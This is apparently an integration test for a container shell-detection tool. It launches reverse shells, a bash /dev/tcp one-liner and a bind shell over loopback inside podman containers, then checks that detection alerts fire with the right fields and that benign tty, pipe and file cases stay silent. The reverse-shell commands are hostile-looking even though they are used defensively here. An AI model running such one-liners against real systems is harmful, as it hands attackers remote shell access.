#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
# What a container shell is connected to (issue 13, part 1), on the real kernel and
# real podman containers: reverse shells over loopback TCP in the container's own
# network namespace (a static helper, and bash's /dev/tcp), a bind shell, and the
# stdio that must not alert: podman exec -i, podman exec -it (tty), /dev/null and
# a file, and a server that puts a socket on its stdio and execs a non-shell.
. "$(dirname "$0")/lib.sh"
command -v gcc >/dev/null || skip "gcc missing"
command -v script >/dev/null || skip "script missing (bsdutils)"
[ -x /bin/bash-static ] || skip "bash-static missing (make deps)"

gcc -static -O2 -Wall -Werror "$ROOT/tests/integration/nethelper.c" -o "$T/nethelper" ||
	die "nethelper build failed"
add_tools() {
	cp "$T/nethelper" "$1/bin/nethelper"
	cp /bin/bash-static "$1/bin/bash"
}
make_image add_tools

# Every container shell with its stdio facts in output_fields, beside the default rules.
cat >"$T/stdio_rules.yaml" <<'EOF'
- rule: Test stdio of container shells
  desc: test only
  condition: spawned_process and container and shell_exec
  output: >
    stdio (cmd=%proc.cmdline in=%proc.stdin.type out=%proc.stdout.type err=%proc.stderr.type
    in_name=%proc.stdin.name out_name=%proc.stdout.name err_name=%proc.stderr.name
    in_peer=%shellsentry.stdin.peer out_peer=%shellsentry.stdout.peer)
  priority: DEBUG
  tags: [test]
# Falco's "Execution from /dev/shm" shape: proc.cwd ends with '/'.
- rule: Test exec from /dev/shm
  desc: test only
  condition: spawned_process and container and proc.cwd startswith "/dev/shm/"
  output: shm (cmd=%proc.cmdline cwd=%proc.cwd pexepath=%proc.pexepath)
  priority: DEBUG
  tags: [test]
EOF
start_daemon --hostname stdio-node --rules "$ROOT/rules/shellsentry_rules.yaml" \
	--rules "$T/stdio_rules.yaml"
RS='.rule == "Reverse or bind shell in container"'
TS='.rule == "Test stdio of container shells"'
f() { jq -r ".output_fields.\"$1\"" <<<"$2"; }
# listening PORT: waits inside the container until 127.0.0.1:PORT listens (/proc/net/tcp).
listening() {
	local hex
	hex=$(printf '%04X' "$1")
	podman exec "$cid" /bin/sh -c "i=0; while [ \$i -lt 200 ]; do
		/bin/grep -q ':$hex 00000000:0000 0A' /proc/net/tcp && exit 0; /bin/sleep 0.05; i=\$((i+1)); done; exit 1" ||
		fail "nothing listens on $1 in the container"
}

# 1. A reverse shell from inside the container (init-tree): the helper connects to a
#    listener in the same network namespace and execs sh -i on the socket.
cid=$(podman run -d "${PODMAN_FLAGS[@]}" "$IMAGE" /bin/sh -c \
	'(/bin/nethelper talk listen 4444 /tmp/rev.out "/bin/echo rev-\$((6*7))" exit &)
	 /bin/nethelper connect 4444 /bin/sh -i; exec /bin/sleep 300') || die "podman run failed"
a=$(wait_alert "$RS and .output_fields.\"proc.cmdline\" == \"sh -i\" and .output_fields.\"shellsentry.stdio.local\" != null and (.output_fields.\"shellsentry.stdio.peer\" | endswith(\":4444\"))" 15) ||
	fail "no reverse-shell alert for the helper's sh -i"
if [ -n "${a:-}" ]; then
	[ "$(jq -r .priority <<<"$a")" = Critical ] || fail "reverse shell priority: $a"
	[ "$(f shellsentry.stdio.peer "$a")" = 127.0.0.1:4444 ] || fail "peer: $a"
	[ "$(f shellsentry.stdio.proto "$a")" = tcp ] || fail "proto: $a"
	[ "$(f shellsentry.lineage "$a")" = init-tree ] || fail "lineage of the entrypoint's reverse shell: $a"
	jq -e '.tags | index("mitre_execution") and index("network")' <<<"$a" >/dev/null || fail "tags: $a"
	grep -q 'peer=127.0.0.1:4444' <<<"$(jq -r .output <<<"$a")" || fail "peer not in the output text: $a"
	ok "reverse shell (helper, init-tree) -> $(jq -r .output <<<"$a" | cut -c1-160)"
fi
a=$(wait_alert "$TS and .output_fields.\"proc.cmdline\" == \"sh -i\"") || fail "no stdio facts for sh -i"
[ -n "${a:-}" ] && {
	[ "$(f proc.stdin.type "$a")/$(f proc.stdout.type "$a")/$(f proc.stderr.type "$a")" = ipv4/ipv4/ipv4 ] ||
		fail "reverse shell stdio types: $a"
	name=$(f proc.stdin.name "$a")
	[[ $name =~ ^127\.0\.0\.1:[0-9]+-\>127\.0\.0\.1:4444$ ]] || fail "stdin name $name (client->server): $a"
	ok "reverse shell stdio: $name"
}
ran=0
for i in $(seq 100); do
	podman exec "$cid" /bin/cat /tmp/rev.out 2>/dev/null | grep -q 'rev-42' && { ran=1; break; }
	sleep 0.1
done
[ $ran = 1 ] || fail "the reverse shell did not run its command (/tmp/rev.out)"

# 2. bash's /dev/tcp: injected by podman exec, the connected bash -i is the reverse shell.
podman exec -d "$cid" /bin/nethelper talk listen 4446 /tmp/tcp.out "/bin/echo tcp-out" exit
listening 4446
podman exec "$cid" /bin/bash -c '/bin/bash -i 3<>/dev/tcp/127.0.0.1/4446 <&3 >&3 2>&3' >/dev/null 2>&1
a=$(wait_alert "$RS and .output_fields.\"proc.name\" == \"bash\" and .output_fields.\"shellsentry.stdio.peer\" == \"127.0.0.1:4446\"") ||
	fail "no reverse-shell alert for bash /dev/tcp"
[ -n "${a:-}" ] && {
	[ "$(f shellsentry.lineage "$a")" = injected ] || fail "/dev/tcp lineage: $a"
	ok "reverse shell (bash /dev/tcp) peer $(f shellsentry.stdio.peer "$a")"
}

# 3. A bind shell: sh -i on an accepted connection; the peer is the client.
podman exec -d "$cid" /bin/nethelper serve 4447 /bin/sh -i
listening 4447
podman exec "$cid" /bin/nethelper talk dial 4447 /tmp/bind.out '/bin/echo bind-$((6*7))' exit
a=$(wait_alert "$RS and .output_fields.\"shellsentry.stdio.local\" == \"127.0.0.1:4447\"") ||
	fail "no alert for the bind shell"
[ -n "${a:-}" ] && {
	peer=$(f shellsentry.stdio.peer "$a")
	[[ $peer =~ ^127\.0\.0\.1:[0-9]+$ ]] && [ "$peer" != 127.0.0.1:4447 ] || fail "bind shell peer $peer: $a"
	ok "bind shell, client $peer"
}
podman exec "$cid" /bin/cat /tmp/bind.out | grep -q 'bind-42' || fail "the bind shell did not run its command"

# 4. A server that puts the accepted socket on its stdio and execs a non-shell: nothing.
podman exec -d "$cid" /bin/nethelper serve 4448 /bin/cat
listening 4448
podman exec "$cid" /bin/nethelper talk dial 4448 /tmp/cat.out "echo-back-server" >/dev/null &
talker=$!
for i in $(seq 100); do
	podman exec "$cid" /bin/cat /tmp/cat.out 2>/dev/null | grep -q echo-back-server && break
	sleep 0.1
done
kill "$talker" 2>/dev/null
wait "$talker" 2>/dev/null

# 5. podman exec -i: stdin is a pipe (or the runtime's unix socket), never a network one.
printf '/bin/sh -c "true pipe-marker"\nexit\n' | podman exec -i "$cid" /bin/sh >/dev/null
a=$(wait_alert "$TS and .output_fields.\"proc.cmdline\" == \"sh -c true pipe-marker\"") ||
	fail "no alert for the podman exec -i shell"
[ -n "${a:-}" ] && {
	t=$(f proc.stdin.type "$a")
	[ "$t" = pipe ] || [ "$t" = unix ] || fail "podman exec -i: stdin type $t: $a"
	ok "podman exec -i: stdin $t ($(f proc.stdin.name "$a"))"
}

# 6. podman exec -it under script: a pts on stdio ("file", /dev/pts/N).
script -qec "podman exec -it $cid /bin/sh -c 'true tty-marker'" /dev/null >/dev/null
a=$(wait_alert "$TS and (.output_fields.\"proc.cmdline\" | contains(\"tty-marker\"))") ||
	fail "no alert for the podman exec -it shell"
[ -n "${a:-}" ] && {
	[ "$(f proc.stdin.type "$a")" = file ] || fail "tty stdin type: $a"
	[[ $(f proc.stdin.name "$a") =~ ^/dev/pts/[0-9]+$ ]] || fail "tty stdin name: $a"
	ok "podman exec -it: stdin $(f proc.stdin.name "$a")"
}

# 7. /dev/null in, a file out: the file's path (the shell still runs when it is read).
podman exec "$cid" /bin/sh -c '/bin/sh -c "/bin/sleep 1; true null-marker" </dev/null >/tmp/null.out 2>&1'
a=$(wait_alert "$TS and .output_fields.\"proc.cmdline\" == \"sh -c /bin/sleep 1; true null-marker\"") ||
	fail "no alert for the /dev/null shell"
[ -n "${a:-}" ] && {
	[ "$(f proc.stdin.type "$a")" = file ] && [ "$(f proc.stdin.name "$a")" = /dev/null ] ||
		fail "/dev/null stdin: $a"
	[ "$(f proc.stdout.type "$a")" = file ] && [ "$(f proc.stdout.name "$a")" = /tmp/null.out ] ||
		fail "file stdout: $a"
	ok "stdin /dev/null, stdout $(f proc.stdout.name "$a")"
}

# 8. The working directory (Falco's trailing '/') and the parent's executable.
podman exec -w /dev/shm "$cid" /bin/sh -c 'true shm-marker'
a=$(wait_alert ".rule == \"Test exec from /dev/shm\" and (.output_fields.\"proc.cmdline\" | contains(\"shm-marker\"))") ||
	fail "no alert for a shell run in /dev/shm (proc.cwd startswith \"/dev/shm/\")"
[ -n "${a:-}" ] && {
	[ "$(f proc.cwd "$a")" = /dev/shm/ ] || fail "proc.cwd: $a"
	ok "proc.cwd $(f proc.cwd "$a")"
}
# the parent's executable: a shell's shell (runc, the parent of an exec'd shell, may be gone)
podman exec -w /dev/shm "$cid" /bin/sh -c '/bin/sh -c "true pexe-marker"; true'
a=$(wait_alert ".rule == \"Test exec from /dev/shm\" and .output_fields.\"proc.cmdline\" == \"sh -c true pexe-marker\"") ||
	fail "no alert for the inner shell"
[ -n "${a:-}" ] && { [ "$(f proc.pexepath "$a")" = /bin/busybox ] && ok "proc.pexepath /bin/busybox" ||
	fail "proc.pexepath of a shell run by busybox sh: $a"; }
# deeper than the kernel's 16 path slots: the whole path from /proc/<pid>/cwd, prefix kept
deep=/dev/shm/a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/q
podman exec "$cid" /bin/sh -c "mkdir -p $deep && cd $deep && /bin/sh -c '/bin/sleep 1; true deep-marker'"
a=$(wait_alert ".rule == \"Test exec from /dev/shm\" and (.output_fields.\"proc.cmdline\" | contains(\"deep-marker\"))") ||
	fail "no alert for a shell 18 directories deep in /dev/shm"
[ -n "${a:-}" ] && { [ "$(f proc.cwd "$a")" = "$deep/" ] && ok "deep cwd: $(f proc.cwd "$a")" ||
	fail "deep cwd: $a"; }
podman exec "$cid" /bin/sh -c 'cd /tmp && /bin/sh -c "true tmp-marker"'
a=$(wait_alert "$TS and .output_fields.\"proc.cmdline\" == \"sh -c true tmp-marker\"") ||
	fail "no alert for the shell in /tmp"
[ -n "${a:-}" ] && [ "$(count_alerts ".rule == \"Test exec from /dev/shm\" and (.output_fields.\"proc.cmdline\" | contains(\"tmp-marker\"))")" -eq 0 ] ||
	fail "a shell outside /dev/shm matched proc.cwd startswith /dev/shm/"

# Sentinel: everything above was processed; then the alerts that must not exist.
podman exec "$cid" /bin/sh -c 'true sentinel-stdio'
wait_alert "$TS and (.output_fields.\"proc.cmdline\" | contains(\"sentinel-stdio\"))" >/dev/null ||
	fail "no sentinel alert"
n=$(count_alerts "$RS")
[ "$n" -eq 3 ] || fail "$n reverse/bind shell alerts, want exactly 3 (helper, /dev/tcp, bind)"
[ "$(count_alerts "$RS and (.output_fields.\"proc.cmdline\" | test(\"marker\"))")" -eq 0 ] ||
	fail "reverse-shell alert for local stdio"
[ "$(count_alerts '.output_fields."proc.name" == "cat" and .output_fields."shellsentry.stdio.peer" != null')" -eq 0 ] ||
	fail "alert for the non-shell server with a socket on its stdio"
[ "$(count_alerts '(.output_fields."shellsentry.stdio.local" // "") | endswith(":4448")')" -eq 0 ] ||
	fail "alert for the socket of the non-shell server"
ok "exactly 3 reverse/bind shell alerts; none for tty, pipe, /dev/null, file or a non-shell server"
finish
